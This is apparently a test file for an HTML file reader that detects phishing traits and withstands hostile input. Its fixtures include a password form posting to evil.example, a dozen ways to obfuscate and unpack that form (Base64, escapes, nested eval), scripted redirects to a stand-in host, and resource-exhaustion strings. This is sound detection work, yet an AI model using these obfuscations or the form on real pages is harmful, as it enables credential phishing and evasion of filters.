import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/parse/files/read-file.ts';

const look = (html: string, name = 'invoice.html') =>
  readFile({ bytes: Buffer.from(html), name, declaredType: '', inline: false });
const script = (code: string): string => `<html><body><script>${code}</script></body></html>`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const percents = (text: string): string =>
  text.replace(/[\s\S]/g, (one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`);
const codes = (text: string): string => [...text].map((one) => one.charCodeAt(0)).join(',');

const PAGE = '<p>Sign in to view</p><form action="https://evil.example/take"><input type="password"></form>';

describe('a page that a script unpacks is read', () => {
  test.each([
    ['Base64', `document.write(atob("${base64(PAGE)}"))`],
    ['percent signs', `document.write(unescape('${percents(PAGE)}'))`],
    ['percent signs, in UTF-8', `document.write(decodeURIComponent("${percents(PAGE)}"))`],
    ['numbers', `document.write(String.fromCharCode(${codes(PAGE)}))`],
    ['a list of numbers', `var a=[${codes(PAGE)}];document.write(String.fromCharCode.apply(null,a))`],
    [
      'escapes',
      `document.write("${PAGE.replace(/[\s\S]/g, (one) => `\\x${one.charCodeAt(0).toString(16).padStart(2, '0')}`)}")`,
    ],
    ['backwards', `var s='${[...PAGE].reverse().join('')}';document.body.innerHTML=s.split('').reverse().join('')`],
    [
      'pieces',
      `const p=["${base64(PAGE).slice(0, 40)}","${base64(PAGE).slice(40)}"].join("");const d=window["at"+"ob"](p);document.write(d);`,
    ],
    [
      'a sum',
      `let x="";x+="${base64(PAGE).slice(0, 31)}";x+="${base64(PAGE).slice(31)}";document.open();document.write(atob(x))`,
    ],
    ['stuffing', `document.write(atob("${base64(PAGE).replace(/.{6}/g, '$&~')}".replace(/~/g,"")))`],
    ['a template', `const h=\`${base64(PAGE)}\`;document.write(\`<div>\${h}</div>\`);document.write(atob(h))`],
    ['two layers', `eval(atob("${base64(`document.write(unescape("${percents(PAGE)}"))`)}"))`],
    [
      'three layers',
      `eval(unescape("${percents(`eval(atob("${base64(`document.write("${PAGE.replaceAll('"', '\\"')}")`)}"))`)}"))`,
    ],
    ['UTF-8 the old way', `document.write(decodeURIComponent(escape(window.atob('${base64(PAGE)}'))))`],
  ])('%s', async (_, code) => {
    const content = await look(script(code));
    expect(content.traits).toEqual(expect.arrayContaining(['html-script', 'html-password-form', 'html-hides-source']));
    expect(content.text).toContain('Sign in to view');
    expect(content.links).toContainEqual(expect.objectContaining({ url: 'https://evil.example/take' }));
  });

  test('in an address of its own', async () => {
    const content = await look(`<iframe src="data:text/html;base64,${base64(PAGE)}"></iframe>`);
    expect(content.traits).toEqual(expect.arrayContaining(['html-password-form', 'html-hides-source']));
  });

  test('in a handler and in an address that is a script', async () => {
    expect((await look(`<body onload="document.write(atob('${base64(PAGE)}'))">`)).traits).toContain(
      'html-password-form',
    );
    expect((await look(`<a href="javascript:document.write(atob('${base64(PAGE)}'))">x</a>`)).traits).toContain(
      'html-password-form',
    );
  });
});

describe('where a script sends the reader', () => {
  test.each([
    'location.href = "https://evil.example/go"',
    'window.location = "https://evil." + "example" + "/go"',
    'location.replace(atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvZ28="))',
    'top.location.assign(["https:/","evil.example","go"].join("/"))',
    'var u="og/elpmaxe.live//:sptth".split("").reverse().join("");window.location.href=u',
    'var h="evil.example";location.href="https://"+h+"/go"',
    'location.href = `https://evil.example/go`',
  ])('%s', async (code) => {
    const content = await look(script(code));
    expect(content.traits).toContain('html-goes-elsewhere');
    expect(content.links.map(({ url }) => url)).toContain('https://evil.example/go');
  });

  test('a page that forwards by itself', async () => {
    const content = await look('<meta http-equiv="refresh" content="0;url=https://evil.example/go">');
    expect(content.traits).toContain('html-goes-elsewhere');
  });
});

test('an address of a person in Base64 is content', async () => {
  expect((await look(script(`var m=atob("${base64('grace@hospital.example')}")`))).content).toContain(
    'grace@hospital.example',
  );
});

test('a drawn code and a picture in the source are read', async () => {
  const { toBuffer } = await import('qrcode');
  const png = (await toBuffer('https://evil.example/in-page', { width: 200 })).toString('base64');
  const content = await look(script(`document.write('<img src="data:image/png;base64,${png}">')`));
  expect(content.links).toContainEqual({ url: 'https://evil.example/in-page', source: 'qr' });
});

describe('what honest pages do', () => {
  test('the tag of a counter', async () => {
    const code = `document.write(unescape("%3Cscript src='" + host + "counter.example/c.js' type='text/javascript'%3E%3C/script%3E"));`;
    expect((await look(script(code))).traits).toEqual(['html-script']);
  });
  test('a button that leads on, a list that is sorted', async () => {
    const code = 'var list=["b","a"].reverse().join(", ");el.textContent=list;link.href="https://shop.example/next"';
    expect((await look(script(code))).traits).toEqual(['html-script']);
  });
});

describe('hostile', () => {
  test.each([
    ['brackets', '('.repeat(200_000)],
    ['calls within calls', 'atob('.repeat(100_000)],
    ['lists within lists', `x=${'['.repeat(100_000)}`],
    ['a string that doubles', `a="${'x'.repeat(1000)}";${'a=a+a;'.repeat(60)}`],
    ['a sum without end', `a=${'"x"+'.repeat(120_000)}"x"`],
    ['split and joined over and over', `a="${'x'.repeat(50_000)}"${'.split("").join("yy")'.repeat(40)}`],
    ['replaced over and over', `a="${'x'.repeat(10_000)}"${`.replace("x","${'x'.repeat(90)}")`.repeat(40)}`],
    ['quotes', '"\\'.repeat(100_000)],
    ['slashes', '=/('.repeat(100_000)],
    ['templates', '`${'.repeat(50_000)],
  ])(
    '%s ends soon',
    async (_, code) => {
      const start = process.cpuUsage();
      await look(script(code));
      expect(process.cpuUsage(start).user / 1_000).toBeLessThan(2_000);
    },
    10_000,
  );

  test('a page within a page within a page ends', async () => {
    let page = PAGE;
    for (let turn = 0; turn < 8; turn += 1) page = script(`document.write(atob("${base64(page)}"))`);
    expect((await look(page)).traits).toContain('html-script');
  });
});
